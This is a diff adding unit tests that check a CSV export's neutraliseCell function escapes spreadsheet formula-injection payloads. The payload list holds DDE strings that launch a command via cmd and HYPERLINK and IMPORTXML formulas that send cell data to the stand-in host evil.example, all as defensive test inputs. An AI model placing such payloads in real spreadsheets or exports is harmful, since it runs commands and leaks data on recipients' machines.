@@ -142,3 +142,58 @@ describe('exportFileName', () => {
     expect(exportFileName('a/b.csv', 'x: y?')).toBe('a b - x y.csv');
   });
 });
+
+describe('spreadsheet formula injection (OWASP payloads and what slipped through before)', () => {
+  const payloads = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=1+2";=1+2',
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    '\t=1+1',
+    '\r=1+1',
+    // Amounts the analysis reads as numbers, which a spreadsheet reads as formulas over cells.
+    '-USD5',
+    '+EUR12',
+    '-CHF1',
+    '-GBP10',
+    '-$12',
+    '+1+cmd|x!A0',
+    // Invisible characters before the formula do not hide it.
+    '\v=1+1',
+    '\f=1+1',
+    '\u3000=1+1',
+    '\u2003=1+1',
+    '\u200b=1+1',
+    '\ufeff=1+1',
+    '\u00a0-1+1',
+  ];
+
+  it('neutralises every payload, in a text column and in a numeric one', () => {
+    for (const cell of payloads) {
+      expect(neutraliseCell(cell, false), JSON.stringify(cell)).toBe(`'${cell}`);
+      expect(neutraliseCell(cell, true), JSON.stringify(cell)).toBe(`'${cell}`);
+    }
+  });
+
+  it('keeps a plain number verbatim in a numeric column, with a decimal point or comma', () => {
+    for (const cell of ['-5', '+1.5', '1,234.5', '-1,234.5', '.5', '-2e-3', '12%', ' -5', '-1,5'])
+      expect(neutraliseCell(cell, true), cell).toBe(cell);
+    expect(neutraliseCell('-1.234,5', true)).toBe('-1.234,5');
+  });
+
+  it('defuses an amount with a currency code in a numeric column of a segment export', async () => {
+    const table = await readCsv(textSource('id,amount\n1,-USD5\n2,+EUR12\n3,-7\n'));
+    const parts = segmentCsvParts({
+      table,
+      rows: Int32Array.from([0, 1, 2]),
+      labels: Int32Array.from([0, 0, 0]),
+      segmentLabels: new Map([[0, 'a']]),
+      numericColumns: [true, true],
+    });
+    expect(parse(parts).map((row) => row[1])).toEqual(['amount', "'-USD5", "'+EUR12", '-7']);
+  });
+});
